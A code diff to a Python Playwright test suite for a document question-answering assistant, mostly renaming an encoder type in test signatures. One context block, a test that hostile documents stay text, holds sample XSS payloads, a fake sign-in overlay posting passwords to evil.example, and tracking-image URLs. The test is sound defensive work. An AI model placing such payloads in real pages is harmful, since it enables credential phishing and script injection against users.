@@ -9,7 +9,7 @@ from playwright.sync_api import Browser, Dialog, Locator, Page, expect
 
 from assistant import Assistant, SentenceReader
 from eval import Row, ask_all, figures, read_questions, shipped_questions
-from index import Home, Index, Library, SentenceTransformerEncoder, add
+from index import Encoder, Home, Index, Library, add
 from tests.browsing import Visitor, needs_browser, serious
 from tests.made import pdf, write
 from tests.test_server import HOSTILE
@@ -42,7 +42,7 @@ def boxes_of(page: Page | Locator) -> dict[str, float]:
 
 
 def test_a_quote_across_pages_of_a_pdf_is_boxed_on_both(
-    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
+    browser: Browser, home: Home, encoder: Encoder, tmp_path: Path, address: str
 ) -> None:
     add(home, [write(tmp_path / "roads.pdf", roads())], encoder)
     context = browser.new_context(locale="en-US")
@@ -96,9 +96,7 @@ def test_words_are_found_in_a_document(visitor: Visitor) -> None:
 
 
 @pytest.mark.parametrize("visitor", ["light", "dark"], indirect=True)
-def test_nothing_keeps_a_screen_reader_or_a_keyboard_out(
-    visitor: Visitor, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path
-) -> None:
+def test_nothing_keeps_a_screen_reader_or_a_keyboard_out(visitor: Visitor, home: Home, encoder: Encoder, tmp_path: Path) -> None:
     assert serious(visitor.page) == []
     visitor.ask("Why are investigations into corruption weak?")
     visitor.ask("Are prisons in Chile overcrowded?")
@@ -116,9 +114,7 @@ def test_nothing_keeps_a_screen_reader_or_a_keyboard_out(
         assert serious(page) == [], path
 
 
-def test_a_hostile_document_stays_text(
-    browser: Browser, home: Home, encoder: SentenceTransformerEncoder, tmp_path: Path, address: str
-) -> None:
+def test_a_hostile_document_stays_text(browser: Browser, home: Home, encoder: Encoder, tmp_path: Path, address: str) -> None:
     overlay = '<div style="position:fixed;top:0">Sign in <form action="http://evil.example"><input name=password></form></div>'
     hostile = "<script>alert(1)</script> \u202edesrever"
     image = "![x](http://evil.example/track.png) <img src=http://evil.example/y.png onerror=alert(1)>"
@@ -151,7 +147,7 @@ def test_a_hostile_document_stays_text(
 
 
 @pytest.fixture(scope="module")
-def measured(shipped_report: Home, encoder: SentenceTransformerEncoder) -> tuple[list[Row], Index]:
+def measured(shipped_report: Home, encoder: Encoder) -> tuple[list[Row], Index]:
     """What became of the questions about the shipped report, and the index that they were asked of."""
     assistant = Assistant(Home(shipped_report.path.parent), encoder, SentenceReader.load(encoder))
     return [row for row, _ in ask_all(assistant, read_questions(shipped_questions()))], assistant.index()
